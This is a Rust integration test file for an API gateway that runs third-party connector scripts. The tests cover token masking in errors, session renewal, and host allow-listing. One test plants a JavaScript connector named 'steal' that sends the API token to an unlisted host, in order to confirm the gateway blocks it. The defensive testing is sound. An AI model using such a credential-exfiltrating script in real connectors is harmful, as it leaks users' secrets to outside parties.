//! Connectors whose methods are scripts, from their files to the third party.
//! The third party is a socket of the test's; the workers are real processes.

use std::process::Command;

use serde_json::json;
use sidegate::http::egress::Names;

use crate::support::{Answer, Folder, Gate, Origin, Peer, outside};

const TOKEN: &str = "planted-token-1";

/// The connector folder `pipedrive`, its scripts sent to `third_party`, and its integration.
fn pipedrive(third_party: &Origin) -> Folder {
    let folder = Folder::new();
    let address = third_party.address.to_string();
    for (name, text) in [
        ("spec.yml", include_str!("pipedrive/spec.yml")),
        ("auth/ui.yml", include_str!("pipedrive/auth/ui.yml")),
        ("auth/make-api-client.js", include_str!("pipedrive/auth/make-api-client.js")),
        ("auth/test.js", include_str!("pipedrive/auth/test.js")),
    ] {
        folder.write_below(&format!("connectors/pipedrive/{name}"), &text.replace("THIRD-PARTY", &address));
    }
    folder.write_below("integrations/pipedrive.yaml", &integration("pipedrive", third_party));
    folder
}

fn integration(connector: &str, third_party: &Origin) -> String {
    format!(
        "connector: {connector}\nhosts: ['{}']\negress: {{allowPrivate: true, allowPlain: true}}\n",
        third_party.address
    )
}

const SERVICE: &str = "listeners: {outbound: {address: '127.0.0.1:0', trustCaller: true}}
store: {redb: {path: store.redb}}
encryption: {keys: [{id: k1, key: {value: MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=}}]}
";

fn gate(folder: Folder) -> Gate {
    Gate::start_beside(folder, SERVICE, outside(Names::default())).unwrap_or_else(|error| panic!("{error:?}"))
}

fn ask(gate: &Gate, line: &str, body: &str) -> Answer {
    let mut caller = Peer::to(gate.address("outbound"));
    caller.say(format!(
        "{line} HTTP/1.1\r\nHost: sidegate.test\r\nX-Sidegate-Workspace: acme\r\nX-Sidegate-Customer: anna\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    ));
    caller.answer()
}

fn connect(gate: &Gate, integration: &str, input: &serde_json::Value) -> Answer {
    let body = json!({"name": "anna's", "integrationKey": integration, "input": input});
    ask(gate, "POST /connections", &body.to_string())
}

/// Answers each request by what stands in its request line or body.
fn answering(answers: &'static [(&'static str, u16, &'static str)]) -> Origin {
    Origin::played(move |peer| {
        while let Some(seen) = peer.request() {
            let asked = format!("{}{}", seen.head, String::from_utf8_lossy(&seen.body));
            let found = answers.iter().find(|(part, ..)| asked.contains(part));
            let (_, status, body) = found.unwrap_or_else(|| panic!("nobody expected {asked}"));
            let answer = format!("HTTP/1.1 {status} Said\r\nContent-Length: {}\r\n\r\n{body}", body.len());
            if !peer.try_say(answer) {
                return;
            }
        }
    })
}

fn lines(third_party: &Origin) -> Vec<String> {
    third_party.seen().iter().map(|seen| seen.line().trim_end_matches(" HTTP/1.1").to_owned()).collect()
}

#[test]
fn a_connector_in_the_public_shape_is_tested_and_called() {
    let third_party = answering(&[("users/me", 200, r#"{"success": true}"#), ("deals", 200, "the deals")]);
    let gate = gate(pipedrive(&third_party));
    let made = connect(&gate, "pipedrive", &json!({"api_token": TOKEN}));
    assert_eq!(made.status, 200, "{}", made.text());
    assert!(!made.text().contains(TOKEN), "{}", made.text());
    let deals = ask(&gate, "GET /connections/pipedrive/proxy/deals?limit=1", "");
    assert_eq!((deals.status, deals.text().as_str()), (200, "the deals"));
    assert_eq!(
        lines(&third_party),
        [format!("GET /v1/users/me?api_token={TOKEN}"), format!("GET /v1/deals?limit=1&api_token={TOKEN}")]
    );
}

#[test]
fn a_connection_whose_script_says_no_is_not_made() {
    for answers in [&[("", 401, "{}")], &[("", 200, r#"{"success": false}"#)]] {
        let third_party = answering(answers);
        let gate = gate(pipedrive(&third_party));
        let made = connect(&gate, "pipedrive", &json!({"api_token": TOKEN}));
        assert!((400..500).contains(&made.status), "{}", made.text());
        assert!(!made.text().contains(TOKEN), "{}", made.text());
        assert_eq!(ask(&gate, "GET /connections/pipedrive/proxy/deals", "").status, 404);
    }
}

#[test]
fn what_a_script_throws_reaches_the_caller_without_secrets_and_folders() {
    let third_party = answering(&[("", 200, r#"{"session": "planted-session-0123456789"}"#)]);
    let folder = pipedrive(&third_party);
    let test = "export default async ({ apiClient, credentials }) => {
        const { session } = await apiClient.get('/session')
        throw new Error(`not good: ${credentials.api_token} ${btoa('x:' + credentials.api_token)} ${session}`)
    }";
    folder.write_below("connectors/pipedrive/auth/test.js", test);
    let said = connect(&gate(folder), "pipedrive", &json!({"api_token": TOKEN})).text();
    assert!(said.contains(": pipedrive/auth/test.js:3:101: test threw Error: not good: [masked] "), "{said}");
    // `-token` in base64, where it stands behind `x:planted`.
    for secret in [TOKEN, "planted", "LXRva2Vu", "0123456789"] {
        assert!(!said.contains(secret), "{said}");
    }
}

#[test]
fn a_script_sees_what_the_api_said_when_it_refused() {
    let third_party = answering(&[("", 401, r#"{"errorCode": 17}"#)]);
    let folder = pipedrive(&third_party);
    let test = "export default ({ apiClient }) => apiClient.get('/users/me').catch((error) => error.data.data.errorCode === 17
        && error.key === 'access_token_expired' && error.response.status === 401)";
    folder.write_below("connectors/pipedrive/auth/test.js", test);
    let made = connect(&gate(folder), "pipedrive", &json!({"api_token": TOKEN}));
    assert_eq!(made.status, 200, "{}", made.text());
}

#[test]
fn a_session_token_comes_from_scripts_and_is_renewed_by_one() {
    let third_party = answering(&[
        (r#""apiKey":"planted-key-2","old":"session-1""#, 200, r#"{"session": "session-2"}"#),
        (r#""apiKey":"planted-key-2""#, 200, r#"{"session": "session-1"}"#),
        ("X-Session: session-1", 401, "expired"),
        ("x-session: session-1", 401, "expired"),
        ("session-2", 200, "the things"),
    ]);
    let folder = Folder::new();
    folder.write_below(
        "connectors/crm/spec.yml",
        &r"
type: client-credentials
inputSchema: {type: object, properties: {apiKey: {type: string}}}
getCredentialsFromConnectionParameters:
  type: javascript
  code: |
    import axios from 'axios'
    exports.getCredentialsFromConnectionParameters = async ({ connectionInput }) => {
      const { data } = await axios.post('http://THIRD-PARTY/session', { apiKey: connectionInput.apiKey })
      return { session: data.session }
    }
refreshCredentials:
  type: javascript
  code: |
    export default async function ({ connectionParameters, credentials }) {
      const body = JSON.stringify({ apiKey: connectionParameters.apiKey, old: credentials.session })
      const answer = await fetch('http://THIRD-PARTY/session', { method: 'POST', body })
      return answer.json()
    }
makeApiClient:
  type: mapping
  mapping: {baseUri: 'http://THIRD-PARTY', headers: {X-Session: {$var: credentials.session}}}
"
        .replace("THIRD-PARTY", &third_party.address.to_string()),
    );
    folder.write_below("integrations/crm.yaml", &integration("crm", &third_party));
    let gate = gate(folder);
    let made = connect(&gate, "crm", &json!({"apiKey": "planted-key-2"}));
    assert_eq!(made.status, 200, "{}", made.text());
    let things = ask(&gate, "GET /connections/crm/proxy/things", "");
    assert_eq!((things.status, things.text().as_str()), (200, "the things"));
    assert_eq!(lines(&third_party), ["POST /session", "GET /things", "POST /session", "GET /things"]);
}

#[test]
fn a_script_reaches_no_host_that_the_integration_does_not_list() {
    let (third_party, other) = (Origin::new(), Origin::new());
    let folder = pipedrive(&third_party);
    let steal = "export default async ({ credentials }) => (await fetch(`http://OTHER/?${credentials.api_token}`)).ok";
    let steal = steal.replace("OTHER", &other.address.to_string());
    folder.write_below("connectors/pipedrive/auth/test.js", &steal);
    let made = connect(&gate(folder), "pipedrive", &json!({"api_token": TOKEN}));
    let said = made.text();
    assert!(made.status >= 400 && said.contains("is not admitted; list its host"), "{said}");
    assert!(!said.contains(TOKEN), "{said}");
    other.is_untouched();
}

#[test]
fn check_loads_every_script_and_names_what_is_wrong() {
    let checked = |folder: &Folder| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_sidegate"));
        let output = command.args(["check", "--config"]).arg(folder.path()).env_clear().output().unwrap();
        (output.status.success(), String::from_utf8_lossy(&output.stderr).into_owned())
    };
    let third_party = Origin::new();
    let folder = pipedrive(&third_party);
    folder.write(
        "sidegate.yaml",
        &format!("{SERVICE}workspaces: {{acme: {{secret: {{value: {}}}}}}}\n", "s".repeat(40)),
    );
    let (is_right, said) = checked(&folder);
    assert!(is_right, "{said}");
    folder.write_below(
        "connectors/pipedrive/auth/test.js",
        "import _ from 'lodash'\nexport default () => true",
    );
    let (is_right, said) = checked(&folder);
    assert!(
        !is_right && said.contains("auth/test.js:1:15: test imports \"lodash\", which is not there"),
        "{said}"
    );
    std::fs::rename(
        folder.path().join("connectors/pipedrive/auth/test.js"),
        folder.path().join("connectors/pipedrive/auth/test.ts"),
    )
    .unwrap();
    let (is_right, said) = checked(&folder);
    assert!(!is_right && said.contains("auth/test.ts: TypeScript is not run here; compile it"), "{said}");
}
